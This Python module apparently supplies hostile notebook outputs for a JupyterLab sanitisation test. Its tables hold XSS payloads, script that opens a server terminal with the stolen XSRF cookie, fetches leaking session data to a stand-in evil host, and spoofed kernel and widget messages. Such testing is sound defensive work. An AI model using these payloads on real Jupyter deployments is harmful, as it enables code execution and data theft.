"""Hostile outputs as cells: each has a number, and its script or its request says that number when it gets through.

The table of policy/hostile.py, in which the address and the script of an entry are given its number, and what only a
front end can act on: other MIME types, payloads, comms, widgets, updates and messages under a false name.
"""

# ruff: noqa: E501 (an attack reads best on one line)

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from dataclasses import dataclass
from textwrap import dedent

from tests.support.policy.hostile import EVIL, HTML, MARKDOWN, RUN

A_CELL = 25
"""Outputs; JupyterLab shows no more than fifty of a cell."""

TERMINAL = (
    "fetch('/api/terminals',{method:'POST',headers:{'X-XSRFToken':(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]}})"
)
COMMAND = "jupyterapp.commands.execute('notebook:insert-cell-below')"
SESSIONS = f"fetch('/api/sessions').then(r=>r.text()).then(t=>fetch('{EVIL}/'+t.length))"
ENCODED = base64.b64encode(RUN.encode()).decode()

MORE_HTML = {
    "script that opens a terminal": f"<script>{RUN};{TERMINAL}</script>",
    "handler that opens a terminal": f'<img src=x onerror="{RUN};{TERMINAL}">',
    "script that adds a cell": f"<script>{RUN};{COMMAND}</script>",
    "handler that adds a cell": f'<svg onload="{RUN};{COMMAND}"></svg>',
    "script that reads the server": f"<script>{RUN};{SESSIONS}</script>",
    "script that writes the title": f"<script>{RUN};document.title='taken'</script>",
    "script in base64": f"<script>eval(atob('{ENCODED}'))</script>",
    "script in a data address": f"<script src=\"data:text/javascript,{RUN}\"></script>",
    "script that reaches out of a frame": f"<script>for(const w of [parent,top])try{{w.{RUN}}}catch(e){{}}</script>",
    "script that rewrites the notebook": f"<script>{RUN};for(const o of top.document.querySelectorAll('.jp-OutputArea-output'))o.textContent='changed'</script>",
    "foreign object": f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject></svg>",
    "MathML link": f"<math><maction actiontype=statusline href=javascript:{RUN}>x</maction></math>",
    "widget view in HTML": '<script type="application/vnd.jupyter.widget-view+json">{"model_id":"x"}</script>',
    "command that adds a cell": f"<button data-commandlinker-command='notebook:insert-cell-below' onclick={RUN}>x</button>",
    "command, after a slash": "<b/data-commandlinker-command=notebook:insert-cell-below>x</b>",
}  # fmt: skip

SVG_HEAD = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
VEGA = "https://vega.github.io/schema/vega-lite/v5.json"
BUNDLES: dict[str, dict[str, object]] = {
    "javascript": {"application/javascript": RUN},
    "javascript, text": {"text/javascript": RUN},
    "javascript that takes the element": {"application/javascript": f"element.innerHTML='<img src=x onerror={RUN}>'"},
    "javascript that opens a terminal": {"application/javascript": f"{RUN};{TERMINAL}"},
    "javascript that adds a cell": {"application/javascript": f"{RUN};{COMMAND}"},
    "javascript that loads a script": {"application/javascript": f"{RUN};import('{EVIL}/x.js')"},
    "svg with a script": {"image/svg+xml": f"{SVG_HEAD}><script>{RUN}</script></svg>"},
    "svg with a handler": {"image/svg+xml": f"{SVG_HEAD} onload='{RUN}'><text>x</text></svg>"},
    "svg with an image": {"image/svg+xml": f"{SVG_HEAD}><image xlink:href='{EVIL}/leak' href='{EVIL}/leak'/></svg>"},
    "png that is markup": {"image/png": f'"><img src=x onerror={RUN}>'},
    "jpeg that is markup": {"image/jpeg": f"' onerror='{RUN}"},
    "latex with markup": {"text/latex": f"<img src=x onerror={RUN}>"},
    "latex link": {"text/latex": rf"$\href{{javascript:{RUN}}}{{x}}$"},
    "latex and markup": {"text/latex": f"$x$<script>{RUN}</script>"},
    "pdf": {"application/pdf": base64.b64encode(f"<script>{RUN}</script>".encode()).decode()},
    "vega-lite data": {"application/vnd.vegalite.v5+json": {"$schema": VEGA, "data": {"url": f"{EVIL}/leak.csv"}, "mark": "bar", "encoding": {}}},
    "vega-lite image": {"application/vnd.vegalite.v5+json": {"$schema": VEGA, "data": {"values": [{"u": f"{EVIL}/leak"}]}, "mark": "image", "encoding": {"url": {"field": "u"}}}},
    "vega data": {"application/vnd.vega.v5+json": {"$schema": "https://vega.github.io/schema/vega/v5.json", "width": 9, "height": 9, "data": [{"name": "d", "url": f"{EVIL}/leak"}]}},
    "vega link": {"application/vnd.vega.v5+json": {"$schema": "https://vega.github.io/schema/vega/v5.json", "width": 9, "height": 9, "marks": [{"type": "rect", "encode": {"enter": {"width": {"value": 9}, "height": {"value": 9}, "fill": {"value": "red"}, "href": {"value": f"javascript:{RUN}"}}}}]}},
    "mermaid": {"text/vnd.mermaid": f"graph TD\nA[\"<img src='{EVIL}/leak'>\"]"},
    "stored streams": {"application/vnd.jupyter.stdout": f"\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07"},
    "widget nobody opened": {"application/vnd.jupyter.widget-view+json": {"model_id": f"<img src=x onerror={RUN}>", "version_major": 2, "version_minor": 0}},
    "both, and the worse is meant": {"text/plain": "x", "text/html": f"<b onclick={RUN}>x</b>", "application/javascript": RUN},
    "a name with markup": {f"<img src=x onerror={RUN}>": "x", "text/plain": "x"},
    "json with markup": {"application/json": {f"<img src=x onerror={RUN}>": f"<script>{RUN}</script>"}},
    "plain text with markup": {"text/plain": f"<img src=x onerror={RUN}> javascript:{RUN}"},
    "plain text with a link": {"text/plain": f"\x1b]8;;javascript:{RUN}\x1b\\x\x1b]8;;\x1b\\"},
}  # fmt: skip

CODE = {
    "clearing the first cell": "send('clear_output', dict(wait=False), parent=first)",
    "set_next_input": f"ip.set_next_input('{RUN}')",
    "set_next_input, replacing": f"ip.set_next_input('{RUN}', replace=True)",
    "page with HTML": f"ip.payload_manager.write_payload(dict(source='page', start=0, data={{'text/html': '<img src=x onerror={RUN}>', 'text/plain': 'x'}}))",
    "page with a script": f"ip.payload_manager.write_payload(dict(source='page', start=0, data={{'application/javascript': '{RUN}'}}))",
    "payload that edits": "ip.payload_manager.write_payload(dict(source='edit_magic', filename='/etc/passwd', line_number=1))",
    "payload that exits": "ip.payload_manager.write_payload(dict(source='ask_exit', keepkernel=False))",
    "stream with markup": f"print('<img src=x onerror={RUN}>\\x1b]8;;javascript:{RUN}\\x07x\\x1b]8;;\\x07\\x1b]0;taken\\x07')",
    "error with markup": f"send('error', dict(ename='<img src=x onerror={RUN}>', evalue='<script>{RUN}</script>', traceback=['<img src=x onerror={RUN}>']))",
    "comm that names a module": f"send('comm_open', dict(comm_id='a', target_name='x', target_module='{EVIL}/x.js', data={{}}))",
    "comm of a widget that names a module": f"send('comm_open', dict(comm_id='b', target_name='jupyter.widget', target_module='{EVIL}/x.js', data=dict(state=dict(_model_module='{EVIL}/m.js', _model_name='XModel', _view_module='{EVIL}/v.js', _view_name='XView'), buffer_paths=[])), metadata=dict(version='2.1.0')); show({{VIEW: dict(model_id='b', version_major=2, version_minor=0)}})",
    "anywidget": f"send('comm_open', dict(comm_id='c', target_name='jupyter.widget', data=dict(state=dict(_model_module='anywidget', _model_name='AnyModel', _model_module_version='~0.9.0', _view_module='anywidget', _view_name='AnyView', _view_module_version='~0.9.0', _esm='{RUN}; export default {{}}', _css='@import url({EVIL}/leak)'), buffer_paths=[])), metadata=dict(version='2.1.0')); show({{VIEW: dict(model_id='c', version_major=2, version_minor=0)}})",
    "widget HTML": f"display(w.HTML('<img src=x onerror={RUN}>'))",
    "widget HTML that leaks": f"display(w.HTML('<img src={EVIL}/leak>'))",
    "widget HTML with a command": "display(w.HTML('<b data-commandlinker-command=notebook:insert-cell-below>x</b>'))",
    "widget HTMLMath": f"display(w.HTMLMath('$x$<svg onload={RUN}>'))",
    "widget HTML, later": f"h = w.HTML('x'); display(h); h.value = '<img src=x onerror={RUN}>'",
    "widget HTML, filled by a link": f"t = w.Text('<img src=x onerror={RUN}>'); h = w.HTML('x'); display(t, h, w.jslink((t, 'value'), (h, 'value')))",
    "widget Label": f"display(w.Label('<img src=x onerror={RUN}>'))",
    "widget description": f"display(w.IntSlider(description='<img src=x onerror={RUN}>', description_allow_html=True))",
    "widget tooltip": f"display(w.Button(description='x', tooltip='\"><img src=x onerror={RUN}>', icon='\" onclick={RUN}'))",
    "widget Output": f"display(w.Output(outputs=[dict(output_type='display_data', data={{'text/html': '<img src=x onerror={RUN}>'}}, metadata={{}})]))",
    "widget Output with a script": f"display(w.Output(outputs=[dict(output_type='display_data', data={{'application/javascript': '{RUN}'}}, metadata={{}})]))",
    "widget Output in a tab in a box": f"display(w.VBox([w.Tab([w.Output(outputs=[dict(output_type='display_data', data={{'text/html': '<svg onload={RUN}>'}}, metadata={{}})])])]))",
    "widget Image by its address": f"display(w.Image(value=b'{EVIL}/leak', format='url'))",
    "widget Video by its address": f"display(w.Video(value=b'{EVIL}/leak', format='url'))",
    "widget Image that is svg": f"display(w.Image(value=b\"{SVG_HEAD} onload='{RUN}'><image href='{EVIL}/leak'/></svg>\", format='svg+xml'))",
    "widget Layout": f"h = w.Box(); h.layout.set_trait('grid_area', 'x'); send('comm_msg', dict(comm_id=h.layout.comm.comm_id, data=dict(method='update', state=dict(width='1px;background:url({EVIL}/leak)'), buffer_paths=[]))); display(h)",
    "widget classes": "b = w.Button(description='x'); b.add_class('jp-Dialog'); b.add_class('lm-Widget'); display(b)",
    "update of a display nobody made": f"send('update_display_data', dict(data={{'text/html': '<img src=x onerror={RUN}>'}}, metadata={{}}, transient=dict(display_id='of-another-kernel')))",
    "update of this display": f"h = display('x', display_id=True); h.update({{'text/html': '<img src=x onerror={RUN}>'}}, raw=True)",
    "result of a cell that was never sent": f"send('display_data', dict(data={{'text/html': '<img src=x onerror={RUN}>'}}, metadata={{}}, transient={{}}), parent=dict(msg_id='0', session='0'))",
    "late result for the first cell": f"send('display_data', dict(data={{'text/html': '<img src=x onerror={RUN}>'}}, metadata={{}}, transient={{}}), parent=first)",
    "error of the first cell": "send('error', dict(ename='a', evalue='b', traceback=['c']), parent=first)",
    "new code of the first cell": f"send('execute_input', dict(code='{RUN}', execution_count=99), parent=first)",
    "message of an unknown kind": f"send('custom_{RUN}', dict(code='{RUN}'))",
    "kernel that says it is dead": "send('status', dict(execution_state='dead'))",
    "kernel that says it restarts": "send('status', dict(execution_state='restarting'))",
    "isolated": f"send('display_data', dict(data={{'text/html': '<script>parent.{RUN}</script>'}}, metadata={{'text/html': {{'isolated': True}}}}, transient={{}}))",
    "trusted by its own word": f"send('display_data', dict(data={{'text/html': '<script>{RUN}</script>'}}, metadata=dict(trusted=True, isolated=True), transient={{}}))",
}  # fmt: skip

UNSUITED = frozenset(
    (
        # Unfiltered, they take away the page or the rest of the notebook, and with it the count.
        "base", "meta refresh", "meta refresh javascript", "styles of the page", "styles set free by a quote",
        "styles set free by a brace", "script never closed", "script that rewrites the notebook",
        "kernel that says it is dead", "kernel that says it restarts", "payload that exits",
    )
)  # fmt: skip

PRELUDE = """
    import base64, json
    import ipywidgets as w
    from IPython.display import display
    ip = get_ipython()
    VIEW = "application/vnd.jupyter.widget-view+json"
    def send(kind, content, parent=None, metadata=None):
        ip.kernel.session.send(ip.kernel.iopub_socket, kind, content, parent=parent or ip.kernel.get_parent("shell"), metadata=metadata)
    def show(data):
        send("display_data", dict(data=data, metadata={}, transient={}))
    def run(encoded):
        for code in json.loads(base64.b64decode(encoded)):
            try:
                exec(code, globals())
            except Exception as error:
                print("this attack does not work:", code, repr(error))
"""


@dataclass(frozen=True, slots=True)
class Attack:
    """One hostile output."""

    number: int
    name: str
    code: str


def attacks(port: int) -> Iterator[Attack]:
    """Yield all hostile outputs, as code for the kernel; another origin listens at `port`."""
    named: list[tuple[str, str]] = []
    for group, mime, table in (("html", "text/html", HTML | MORE_HTML), ("markdown", "text/markdown", MARKDOWN)):
        named += [
            (name if group == "html" else f"{group}: {name}", f"show({{{mime!r}: {text!r}}})")
            for name, text in table.items()
        ]
    named += [(f"bundle: {name}", f"show({bundle!r})") for name, bundle in BUNDLES.items()]
    named += CODE.items()
    for number, (name, code) in enumerate(named, 1):
        yield Attack(number, name, _numbered(code, number, port))


def _numbered(code: str, number: int, port: int) -> str:
    encoded = base64.b64encode(f"window.pwned{number}=1".encode()).decode()
    return (
        code.replace(ENCODED, encoded)
        .replace("pwned=1", f"pwned{number}=1")
        .replace("alert(1)", f"window.pwned{number}=1")
        .replace("evil.test", f"evil.test:{port}/{number}")
    )


def cells(chosen: list[Attack]) -> list[str]:
    """Return the cells of a notebook: one that goes before, the attacks, and one that goes after."""
    result = ['first = get_ipython().kernel.get_parent("shell"); "the first cell"', dedent(PRELUDE)]
    for start in range(0, len(chosen), A_CELL):
        codes = json.dumps([attack.code for attack in chosen[start : start + A_CELL]]).encode()
        result.append(f'run("{base64.b64encode(codes).decode()}")')
    return [*result, 'print("the last cell")']
